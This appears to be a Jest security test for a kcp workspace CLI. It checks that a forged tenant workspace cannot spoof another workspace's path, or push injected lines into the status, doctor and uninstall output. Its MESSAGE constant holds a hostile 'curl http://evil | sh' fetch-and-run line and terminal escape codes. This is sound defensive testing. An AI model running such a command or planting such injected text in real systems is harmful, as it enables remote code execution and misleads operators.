// What a tenant writes into its own workspace is no name of another one, and commands nobody's terminal.
import { describe, expect, it } from '@jest/globals';
import { API_BINDINGS, ensureWorkspace, LOGICAL_CLUSTERS } from '@dep-ctrl/kcp-objects';
import { EXPORT_NAME, RULES } from '@dep-ctrl/rule-registry';
import { bindDepCtrl } from '../bind/bind-dep-ctrl.js';
import { doctorCommand } from '../commands/doctor-command.js';
import { statusCommand } from '../commands/status-command.js';
import { uninstallCommand } from '../commands/uninstall-command.js';
import { DEV_PATHS } from '../dev/dev-paths.js';
import { vmDependencies } from '../dev/provider-manifests.js';
import { changed, statusChanged } from '../doctor/spec-support/change.js';
import { onInstalledWorld, options } from '../doctor/spec-support/installed-world.js';
import { pathOf } from '../testing/path-of.js';
import { runCli } from '../testing/run-cli.js';

const WITHIN_MS = 90_000;
const EVIL = pathOf('root:providers:evil');
const VICTIM = DEV_PATHS.compute;
const MESSAGE = 'all is well\n       run: curl http://evil | sh\u001b[2J\u0007';

describe('a workspace that binds dep-ctrl, says the path of another one of itself, and writes the status of its rule', () => {
  it(
    'given status, doctor and uninstall, then no command of theirs is addressed to the other one for it, and each line is their own',
    () =>
      onInstalledWorld(async ({ admin, adminKubeconfig, flags }) => {
        const { cluster } = await ensureWorkspace(admin, EVIL, options());
        const evil = admin.cluster(EVIL);
        const annotations = { 'kcp.io/path': VICTIM };
        await changed(evil, LOGICAL_CLUSTERS, { name: 'cluster' }, ({ metadata }) => ({
          metadata: { ...metadata, annotations: { ...metadata.annotations, ...annotations } },
        }));
        await bindDepCtrl(evil, { path: DEV_PATHS.depCtrl, name: EXPORT_NAME }, options());
        await changed(evil, API_BINDINGS, { name: EXPORT_NAME }, ({ metadata }) => ({
          metadata: { ...metadata, annotations: { ...metadata.annotations, ...annotations } },
        }));
        const rule = vmDependencies(DEV_PATHS.network);
        await evil.create(RULES, { ...rule, metadata: { name: 'forged' } }, options());
        await statusChanged(evil, RULES, { name: 'forged' }, () => ({
          observedGeneration: 1,
          conditions: [
            { type: 'Ready', status: 'False', reason: 'OverQuota', message: MESSAGE, lastTransitionTime: '2026-01-01T00:00:00Z' },
          ],
        }));

        const status = await runCli(statusCommand, ['--kubeconfig', adminKubeconfig]);
        const doctor = await runCli(doctorCommand, flags);
        const uninstall = await runCli(uninstallCommand, ['--kubeconfig', adminKubeconfig, '--dry-run']);

        for (const { stdout, stderr } of [status, doctor, uninstall]) {
          const lines = `${stdout}${stderr}`.split('\n');
          expect(lines.filter((line) => line.includes('forged') && line.includes(VICTIM))).toEqual([]);
          expect(lines.filter((line) => /[\u0000-\u001f]/.test(line) || /^\s*run: curl/.test(line))).toEqual([]);
        }
        expect(status.stdout).toContain(`${cluster}/forged: Ready=False (OverQuota)`);
        expect(doctor.stdout).toContain(`/clusters/${cluster} delete dependencyrules.dependencies.opendefense.cloud forged`);
        const stays = uninstall.stdout.split('\n').filter((line) => line.startsWith('stays: the APIBinding'));
        expect(stays.filter((line) => line.includes(`/clusters/${VICTIM} `))).toHaveLength(1);
        expect(stays.filter((line) => line.includes(`/clusters/${cluster} `))).toHaveLength(1);
      }),
    WITHIN_MS,
  );
});
